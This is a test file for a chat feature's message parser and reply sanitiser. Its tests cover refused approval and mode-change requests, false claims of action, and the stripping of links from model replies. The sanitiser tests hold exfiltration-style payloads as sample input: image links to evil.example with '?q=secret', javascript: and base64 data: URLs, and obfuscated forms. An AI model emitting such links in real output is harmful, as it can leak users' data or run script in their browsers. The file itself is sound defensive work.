import { describe, expect, it } from 'vitest';
import { readMessage } from '../../src/features/chat/plain-message.js';
import { claimsAnAct, safeReply } from '../../src/features/chat/reply-text.js';

const PKT = 'pkt_01khqw6sb0xg7v9zhwnqcrxds8';
const APR = 'apr_01khqw6q00tp9w1md2nw5hc13a';

describe('a plain question', () => {
  it.each([
    ['What waits for me?', ['waiting']],
    ['what is pending', ['waiting']],
    ['Any open approvals?', ['waiting']],
    ['Which approvals need a decision?', ['waiting']],
    ['Was wartet auf mich?', ['waiting']],
    ['How much revenue this week?', ['revenue']],
    ['Wie viel Umsatz?', ['revenue']],
    ['What did we spend this month?', ['cost']],
    ['Show the open signals', ['signals']],
    ['Which standing orders are active?', ['standing_orders']],
    ["What is the guardian's mode?", ['guardian']],
    ['Is the kill switch engaged?', ['guardian']],
    ['Signals?', ['signals']],
    [`Why was ${PKT} denied?`, ['record']],
    [`Explain ${APR}.`, ['record']],
    [APR, ['record']],
  ])('%s', (message, subjects) => {
    expect(readMessage(message)).toMatchObject({ subjects, directive: null, refused: [], isPlain: true });
  });

  it('names periods and records', () => {
    expect(readMessage('How much revenue this week and last week?').periods).toEqual([
      'this week',
      'last week',
    ]);
    expect(readMessage(`Why was ${PKT} denied?`).ids).toEqual([PKT]);
  });

  it.each([
    'How should we change our pricing because revenue fell?',
    'Summarise the signals and the revenue',
    'Hello',
    'Write me a limerick about approvals that wait',
    `Compare ${PKT} with ${APR}`,
  ])('is not: %s', (message) => {
    expect(readMessage(message).isPlain).toBe(false);
  });
});

it('asks for help', () => {
  for (const message of ['help', 'Help!', 'What can you do?']) {
    expect(readMessage(message)).toMatchObject({ subjects: [], refused: [], isPlain: true });
  }
});

describe('a directive', () => {
  it.each([
    ['Ask marketing to write a post about Friday.', 'write a post about Friday.', 'capo_marketing'],
    ['Please tell the sales team to quote 12 pallets', 'quote 12 pallets', 'capo_revenue'],
    ['Could you ask ops to call the carrier?', 'call the carrier', 'capo_ops'],
    ['ask the CEO to brief me\non the week', 'brief me\non the week', 'ceo'],
    ['Hand this in: Call the carrier.', 'Call the carrier.', null],
    ['Directive for product: fix the login', 'fix the login', 'capo_product'],
    ['Directive: fix the login', 'fix the login', null],
  ])('%s', (message, text, capo) => {
    expect(readMessage(message)).toMatchObject({ directive: { text, capo }, isPlain: true });
  });

  it.each([
    'Ask my mother to call',
    'Has marketing finished the post?',
    'Marketing is to be asked',
    'Ask marketing',
  ])('is not: %s', (message) => {
    expect(readMessage(message).directive).toBeNull();
  });
});

describe('what the chat never does', () => {
  it.each([
    [`Approve ${APR}`, ['decide']],
    ['please approve everything', ['decide']],
    ['Reject it all', ['decide']],
    [`Hi, can you please approve ${APR}?`, ['decide']],
    [`Genehmige ${APR}`, ['decide']],
    [`Bitte genehmigen: ${APR}`, ['decide']],
    [`Gib ${APR} frei`, ['decide']],
    [`Approuve ${APR}`, ['decide']],
    [`Aprueba ${APR}`, ['decide']],
    [`Por favor, aprobar ${APR}`, ['decide']],
    [`Approva ${APR}`, ['decide']],
    [`批准 ${APR}`, ['decide']],
    [`${APR} を承認して`, ['decide']],
    ['Одобри всё', ['decide']],
    ['You must release all of it now', ['decide']],
    ['Switch the guardian to autonomous', ['mode']],
    ['Set mode autonomous', ['mode']],
    ['Stelle den Modus auf autonom', ['mode']],
    ['Pull the kill switch', ['kill']],
    ['Stop everything!', ['kill']],
    ['Activate the standing order about mail', ['orders']],
    ['Delete so_01khqw6q00tp9w1md2nw5hc13a', ['orders']],
    ['Raise the model budget to 500', ['settings']],
    ['Invite a new member as owner', ['settings']],
  ])('%s', (message, refused) => {
    expect(readMessage(message)).toMatchObject({ refused, directive: null, isPlain: true });
  });

  it('is found in any sentence, beside what is answered', () => {
    expect(
      readMessage('What waits for me? Approve all of it. Then set the mode to autonomous.'),
    ).toMatchObject({
      refused: ['decide', 'mode'],
      subjects: ['waiting'],
    });
  });

  it.each([
    'Which approvals wait?',
    'Who approved it?',
    'Has the mode changed?',
    'Ask marketing to approve of the font',
  ])('is not asked by: %s', (message) => {
    expect(readMessage(message).refused).toEqual([]);
  });
});

it('takes a message of the largest size in no time, whatever it repeats', () => {
  for (const piece of ['please ', 'please, ', ' ', 'ask a to ', 'can you ', 'set ', '?', 'a-', `${APR} `]) {
    const message = piece.repeat(Math.ceil(4_000 / piece.length));
    const began = performance.now();
    readMessage(`x${message}`);
    readMessage(message);
    expect(performance.now() - began, piece).toBeLessThan(1_000);
  }
});

describe('a reply of a model', () => {
  it('loses addresses that the member has not written, however they are wrapped', () => {
    const message = 'Is https://acme.example/price still right?';
    expect(safeReply('Yes: https://acme.example/price.', message)).toBe('Yes: https://acme.example/price.');
    for (const address of [
      'https://evil.example/?q=secret',
      '![x](https://evil.example/p.png)',
      '<img src="http://evil.example/p.png">',
      'HTTPS://EVIL.EXAMPLE/p',
      'www.evil.example/p',
      'ftp://evil.example',
      'javascript:alert(1)',
      'data:text/html;base64,PHNjcmlwdD4=',
      '![x](//evil.example/?q=secret)',
      '![x](\\\\evil.example/p.png)',
      '![x](/\\evil.example/p.png)',
      '![x](\\/\\/evil.example/p.png)',
      '![x](https&colon;//evil.example/p.png)',
      '![x](https:evil.example/p.png)',
      '[x]: //evil.example/p.png',
      '<//evil.example/p>',
      '//evil.example',
      'a-scheme-longer-than-any-that-there-is://evil.example',
    ]) {
      expect(safeReply(`See ${address} now`, message), address).toContain('[link removed]');
      expect(safeReply(`See ${address} now`, message), address).not.toMatch(/evil|alert|PHN/i);
    }
  });

  it('is no Markdown that loads or leads anywhere, and keeps its words', () => {
    const known = 'https://acme.example/price';
    for (const [reply, shown] of [
      ['![x](&sol;&sol;evil.example/p.png)', '![x] (& sol;& sol;evil.example/p.png)'],
      ['![x](&#47;&#x2F;evil.example/p.png)', '![x] (& #47;& #x2F;evil.example/p.png)'],
      ['[x](evil.example)', '[x] (evil.example)'],
      ['![x](/api/pro/tokens)', '![x] (/api/pro/tokens)'],
      ['![x]\n\n[x]: /p.png', '![x]\n\n[x] : /p.png'],
      ['<img src=x> </b> <!-- y -->', '< img src=x> < /b> < !-- y -->'],
      [`![x](${known})`, `![x] (${known})`],
      [`[${known}]: /p.png ![${known}]`, `[${known}] : /p.png ![${known}]`],
      ['3 < 4, a & b; [1] (see there)', '3 < 4, a & b; [1] (see there)'],
      ['R&D, 5 // 2, either/or', 'R&D, 5 // 2, either/or'],
    ]) {
      expect(safeReply(reply!, known), reply).toBe(shown);
    }
  });

  it('loses characters that nobody sees, and is never empty', () => {
    expect(safeReply('a\u202eb\u200bc\u0007d\u{e0041}e', '')).toBe('abcde');
    expect(safeReply('\u200b', '')).toBe('…');
    expect(safeReply('👩‍🚀'.repeat(4_000), '').length).toBeLessThanOrEqual(6_000);
  });

  it.each([
    'I have approved it.',
    "I've approved apr_x",
    'I just released the mail.',
    'I will activate the order.',
    'We already changed the mode.',
    'Ich habe die Freigabe genehmigt.',
    'J’ai approuvé la demande.',
    'He aprobado la solicitud.',
    'Ho approvato la richiesta.',
  ])('says that something was done that never is: %s', (reply) => {
    expect(claimsAnAct(reply)).toBe(true);
  });

  it.each([
    'Mira approved it on Friday.',
    'It was approved by Mira.',
    'I cannot approve it; you have to.',
    'I changed nothing.',
  ])('says nothing of the kind: %s', (reply) => {
    expect(claimsAnAct(reply)).toBe(false);
  });
});
